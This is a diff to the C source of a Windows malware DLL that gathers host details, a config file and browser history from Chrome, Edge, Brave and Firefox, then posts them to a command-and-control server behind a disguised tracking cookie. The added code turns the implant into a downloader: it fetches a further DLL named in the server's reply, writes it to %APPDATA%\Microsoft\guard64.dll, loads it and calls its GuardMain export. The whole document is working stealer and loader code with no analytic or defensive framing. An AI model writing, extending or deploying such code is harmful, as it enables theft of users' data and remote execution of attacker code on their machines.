@@ -23,11 +23,14 @@
  *      (resp. moz_places) for databases without overflow pages; cells whose record
  *      spills onto overflow pages are skipped. Missing files are skipped.
  *   4. POSTs one JSON document to https://<c2_host><c2_path> with
- *      "Cookie: __tutma=<guid>", reads the answer and returns:
+ *      "Cookie: __tutma=<guid>" and reads the answer:
  *      {"HostName": "..", "DomainName": "..", "OsVersion": "M.m.b",
  *       "AppConfig": "<config.json as a JSON string>",
  *       "History": {"chrome": [{"url": "..", "title": ".."}, ..], "edge": [..],
  *                   "brave": [..], "firefox": [..]}}
+ *   5. if the answer is a path, GETs it from the C2 (stage 4, guard64.dll), writes it to
+ *      %APPDATA%\Microsoft\guard64.dll, LoadLibraryW's it and calls its export
+ *      GuardMain(c2_host, c2_path, guid) (see ../guard/guard64.c).
  */
 #define WIN32_LEAN_AND_MEAN
 #include <windows.h>
@@ -40,6 +43,7 @@
 #define MAX_CONFIG_SIZE (64u * 1024u)
 #define MAX_BTREE_DEPTH 20
 #define MAX_PAGE_VISITS 200000
+#define MAX_PLUGIN_SIZE (1024u * 1024u)
 
 typedef unsigned char u8;
 typedef unsigned long long u64;
@@ -544,15 +548,16 @@ static void system_info(SB *out)
 
 /* ------------------------------------------------------------------ exfiltration */
 
-static void post(const wchar_t *host, const wchar_t *path, const wchar_t *guid, const SB *body)
+/* POSTs body; the answer (at most reply_cap bytes) goes to reply, its length is returned. */
+static DWORD post(const wchar_t *host, const wchar_t *path, const wchar_t *guid, const SB *body, u8 *reply,
+                  DWORD reply_cap)
 {
     static const wchar_t *accept[] = {L"*/*", NULL};
     static const wchar_t pfx[] = L"Cookie: __tutma=";
     static const wchar_t sfx[] = L"\r\nAccept-Encoding: gzip, deflate, br\r\n";
     wchar_t cookie[160];
     size_t k = 0;
-    u8 reply[1024];
-    DWORD got;
+    DWORD got, total = 0;
 
     for (const wchar_t *p = pfx; *p; p++)
         cookie[k++] = *p;
@@ -564,7 +569,7 @@ static void post(const wchar_t *host, const wchar_t *path, const wchar_t *guid, 
 
     HINTERNET inet = InternetOpenW(USER_AGENT, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
     if (!inet)
-        return;
+        return 0;
     HINTERNET conn = InternetConnectW(inet, host, INTERNET_DEFAULT_HTTPS_PORT, NULL, NULL,
                                       INTERNET_SERVICE_HTTP, 0, 0);
     if (conn) {
@@ -578,11 +583,12 @@ static void post(const wchar_t *host, const wchar_t *path, const wchar_t *guid, 
                                  (DWORD)body->n)) {
                 DWORD code = 0, len = sizeof(code);
                 HttpQueryInfoW(req, HTTP_QUERY_STATUS_CODE | HTTP_QUERY_FLAG_NUMBER, &code, &len, NULL);
-                /* drain the answer (content ignored) */
-                for (int i = 0; i < 64; i++) {
+                /* the answer: "OK", or the path of a plug-in to install */
+                for (int i = 0; i < 64 && total < reply_cap; i++) {
                     got = 0;
-                    if (!InternetReadFile(req, reply, sizeof(reply), &got) || got == 0)
+                    if (!InternetReadFile(req, reply + total, reply_cap - total, &got) || got == 0)
                         break;
+                    total += got;
                 }
             }
             InternetCloseHandle(req);
@@ -590,6 +596,85 @@ static void post(const wchar_t *host, const wchar_t *path, const wchar_t *guid, 
         InternetCloseHandle(conn);
     }
     InternetCloseHandle(inet);
+    return total;
+}
+
+/* ------------------------------------------------------------------ stage 4 */
+
+typedef void(WINAPI *GUARD_FN)(const wchar_t *, const wchar_t *, const wchar_t *);
+
+/* The upload's answer may name a plug-in (stage 4): GET it from the C2, write it to
+ * %APPDATA%\Microsoft\guard64.dll, load it and call GuardMain(host, path, guid). */
+static void install_plugin(const wchar_t *host, const wchar_t *c2_path, const wchar_t *guid, const u8 *reply,
+                           DWORD n)
+{
+    static const wchar_t *accept[] = {L"*/*", NULL};
+    static const wchar_t pfx[] = L"Cookie: __tutma=";
+    wchar_t plugin_path[256], cookie[160], file[MAX_PATH + 64];
+    DWORD j = 0, k = 0, got, total = 0, written = 0;
+    u8 *dll;
+
+    while (j < n && (reply[j] == ' ' || reply[j] == '\r' || reply[j] == '\n'))
+        j++;
+    if (j >= n || reply[j] != '/')
+        return;
+    for (; j < n && reply[j] > ' ' && reply[j] < 0x7f && k + 1 < 256; j++)
+        plugin_path[k++] = (wchar_t)reply[j];
+    plugin_path[k] = 0;
+    k = 0;
+    for (const wchar_t *p = pfx; *p; p++)
+        cookie[k++] = *p;
+    for (const wchar_t *p = guid; *p && k < 140; p++)
+        cookie[k++] = *p;
+    cookie[k++] = L'\r';
+    cookie[k++] = L'\n';
+    cookie[k] = 0;
+
+    dll = (u8 *)xalloc(MAX_PLUGIN_SIZE);
+    if (!dll)
+        return;
+    HINTERNET inet = InternetOpenW(USER_AGENT, INTERNET_OPEN_TYPE_PRECONFIG, NULL, NULL, 0);
+    HINTERNET conn = inet ? InternetConnectW(inet, host, INTERNET_DEFAULT_HTTPS_PORT, NULL, NULL,
+                                             INTERNET_SERVICE_HTTP, 0, 0)
+                          : NULL;
+    HINTERNET req = conn ? HttpOpenRequestW(conn, L"GET", plugin_path, NULL, NULL, accept,
+                                            INTERNET_FLAG_SECURE | INTERNET_FLAG_RELOAD, 0)
+                         : NULL;
+    if (req) {
+        HttpAddRequestHeadersW(req, cookie, (DWORD)-1, HTTP_ADDREQ_FLAG_ADD | HTTP_ADDREQ_FLAG_REPLACE);
+        if (HttpSendRequestW(req, NULL, 0, NULL, 0)) {
+            while (total < MAX_PLUGIN_SIZE) {
+                got = 0;
+                if (!InternetReadFile(req, dll + total, MAX_PLUGIN_SIZE - total, &got) || got == 0)
+                    break;
+                total += got;
+            }
+        }
+        InternetCloseHandle(req);
+    }
+    if (conn)
+        InternetCloseHandle(conn);
+    if (inet)
+        InternetCloseHandle(inet);
+    if (total < 0x200 || dll[0] != 'M' || dll[1] != 'Z' ||
+        !env_path(file, MAX_PATH + 64, L"APPDATA", L"\\Microsoft\\guard64.dll")) {
+        xfree(dll);
+        return;
+    }
+    HANDLE h = CreateFileW(file, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
+    if (!bad_handle(h)) {
+        WriteFile(h, dll, total, &written, NULL);
+        CloseHandle(h);
+    }
+    xfree(dll);
+    if (written != total)
+        return;
+    HMODULE m = LoadLibraryW(file);
+    if (!m)
+        return;
+    GUARD_FN guard = (GUARD_FN)(void *)GetProcAddress(m, "GuardMain");
+    if (guard)
+        guard(host, c2_path, guid);
 }
 
 /* ------------------------------------------------------------------ export */
@@ -629,8 +714,13 @@ EXPORT void WINAPI IconicMain(const wchar_t *c2_host, const wchar_t *c2_path, co
         first = 0;
     sb_str(&out, "}}");
 
-    if (!out.oom)
-        post(c2_host, c2_path, machine_guid, &out);
+    if (!out.oom) {
+        u8 reply[512];
+        DWORD n = post(c2_host, c2_path, machine_guid, &out, reply, sizeof(reply));
+        xfree(out.p);
+        out.p = NULL;
+        install_plugin(c2_host, c2_path, machine_guid, reply, n);
+    }
     xfree(out.p);
 }
 
